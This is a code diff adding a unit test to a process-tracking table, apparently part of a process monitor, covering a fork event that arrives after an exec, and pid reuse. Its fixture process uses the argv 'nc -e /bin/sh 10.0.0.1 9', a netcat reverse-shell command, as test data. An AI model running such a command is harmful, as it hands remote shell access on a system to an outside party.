@@ -228,6 +228,23 @@ describe('ProcessTable', () => {
     expect(table.stats()).toMatchObject({ scans: 2, missedExecs: 1, pidReuses: 1 });
   });
 
+  it("keeps the exec'd image when a process's fork comes after its exec, and describes the fork as it was", () => {
+    const nc: FixtureProcess = { pid: 3100, ppid: 1200, comm: 'nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '9'], exe: '/usr/bin/nc', startTicks: 80_000 };
+    writeProcess(root, nc);
+    const { entry: exec } = table.applyExec(execEvent(nc.pid, procfs.snapshot(nc.pid)));
+    // The same process (its start time), late.
+    const fork = table.applyFork({ ...forkEvent(1200, nc.pid), startTicks: 80_000 });
+    expect(fork).not.toBeNull();
+    expect(fork!.image.name).toBe('bash');
+    expect(fork!.entityId).toBe(exec.entityId);
+    expect(table.get(nc.pid)).toBe(exec);
+    expect(table.get(nc.pid)!.image.args).toEqual(nc.argv);
+    // Another process under the pid (another start time) is a reuse, as before.
+    table.applyFork({ ...forkEvent(1200, nc.pid), startTicks: 80_500 });
+    expect(table.get(nc.pid)!.image.name).toBe('bash');
+    expect(table.stats()).toMatchObject({ lateForks: 1, pidReuses: 1 });
+  });
+
   it('tracks uid and gid changes and comm of unnamed processes', () => {
     table.applyChange(changeEvent('uid', 1200, { ruid: 1000, euid: 0 }));
     table.applyChange(changeEvent('gid', 1200, { rgid: 1000, egid: 27 }));
